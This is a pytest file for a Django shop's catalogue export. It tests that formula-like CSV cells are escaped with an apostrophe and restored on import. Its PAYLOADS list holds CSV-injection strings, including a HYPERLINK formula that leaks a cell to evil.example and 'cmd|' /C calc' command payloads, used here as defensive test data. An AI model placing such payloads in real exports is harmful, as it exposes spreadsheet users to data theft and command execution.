"""Catalogue exports are safe to open in a spreadsheet (OWASP CSV injection): text that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading apostrophe, through
both doors (the `export_catalog` command and the admin's export), while numbers in numeric
columns stay numbers; `import_catalog` takes the apostrophe off again, so a round trip keeps
every value exactly."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from catalog.models import Product, ProductVariant
from catalog.services import product_refresh_search_document
from commerce.csvsafe import DANGEROUS, cell_neutralise, cell_restore, csv_writer
from tests.catalog.test_import import import_file, snapshot

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def poison(catalogue, payload: str) -> None:
    """Every free-text field of the red tee (and its product) starts with `payload`."""
    Product.objects.filter(pk=catalogue.tee.pk).update(
        name=f"{payload} tee", description=f"{payload} description"
    )
    ProductVariant.objects.filter(pk=catalogue.tee_red.pk).update(name=f"{payload} red")


def exported_by_command(tmp_path) -> list[list[str]]:
    path = tmp_path / "export.csv"
    call_command("export_catalog", "-o", str(path))
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def exported_by_admin(client) -> list[list[str]]:
    response = client.get("/admin/catalog/product/export/")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def tee_red_row(rows: list[list[str]]) -> dict[str, str]:
    header, *body = rows
    (row,) = [dict(zip(header, cells, strict=True)) for cells in body if cells[0] == "TEE-RED-M"]
    return row


def assert_no_formula(rows: list[list[str]]) -> None:
    for cells in rows:
        for cell in cells:
            assert not (cell and cell[0] in DANGEROUS), cell


@pytest.mark.parametrize("payload", PAYLOADS, ids=PREFIXES)
def test_export_catalog_escapes_every_formula_like_text_cell(tmp_path, catalogue, payload):
    poison(catalogue, payload)

    rows = exported_by_command(tmp_path)

    assert_no_formula(rows)
    row = tee_red_row(rows)
    assert row["product_name"] == f"'{payload} tee"
    assert row["description"] == f"'{payload} description"
    assert row["variant_name"] == f"'{payload} red"
    assert row["price:web-jp"] == "2980"


@pytest.mark.parametrize("payload", PAYLOADS, ids=PREFIXES)
def test_admin_export_escapes_every_formula_like_text_cell(superuser_client, catalogue, payload):
    poison(catalogue, payload)

    rows = exported_by_admin(superuser_client)

    assert_no_formula(rows)
    assert tee_red_row(rows)["product_name"] == f"'{payload} tee"


def test_admin_export_action_escapes_formula_like_text(superuser_client, catalogue):
    poison(catalogue, "=1+1")

    response = superuser_client.post(
        "/admin/catalog/product/",
        {"action": "export_selected", "_selected_action": [catalogue.tee.pk]},
    )

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert_no_formula(rows)
    assert tee_red_row(rows)["variant_name"] == "'=1+1 red"


@pytest.mark.parametrize(
    "payload", [*PAYLOADS, "'=already quoted", "''-two quotes", "-20% off", "it's fine"]
)
def test_an_escaped_export_imports_back_to_the_same_values(tmp_path, catalogue, payload):
    Product.objects.filter(pk=catalogue.tee.pk).update(
        name=f"{payload.strip()} tee", description=f"{payload.strip()} description"
    )
    ProductVariant.objects.filter(pk=catalogue.tee_red.pk).update(name=f"{payload.strip()} red")
    ProductVariant.objects.filter(pk=catalogue.tee_blue.pk).update(barcode="-4901234567894")
    product_refresh_search_document(product_ids=[catalogue.tee.pk])
    path = tmp_path / "export.csv"
    call_command("export_catalog", "-o", str(path))
    with path.open(encoding="utf-8", newline="") as stream:
        assert tee_red_row(list(csv.reader(stream)))["product_name"] == cell_neutralise(
            f"{payload.strip()} tee"
        )
    before = snapshot()
    ProductVariant.objects.all().delete()
    Product.objects.all().delete()

    report = import_file(str(path))

    assert report.errors == []
    assert snapshot() == before
    assert Product.objects.get(pk__isnull=False, slug=catalogue.tee.slug).name == (
        f"{payload.strip()} tee"
    )


def test_numbers_stay_numbers_in_numeric_columns_and_text_is_escaped_in_text_columns():
    stream = io.StringIO()
    writer = csv_writer(stream, numeric=lambda column: column in ("weight", "price"))

    writer.writerows(
        [
            ["name", "weight", "price", "note"],
            ["-5", "-5", "-12.50", "-12.50"],
            ["=1+1", "=1+1", "-2+3", "@x"],
        ]
    )

    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [
        ["name", "weight", "price", "note"],
        ["'-5", "-5", "-12.50", "'-12.50"],
        ["'=1+1", "'=1+1", "'-2+3", "'@x"],
    ]


@pytest.mark.parametrize("text", [*PAYLOADS, "'=x", "''+x", "'plain", "plain", "", "-"])
def test_restore_undoes_neutralise_exactly(text):
    assert cell_restore(cell_neutralise(text)) == text
    assert cell_neutralise(text)[:1] not in DANGEROUS
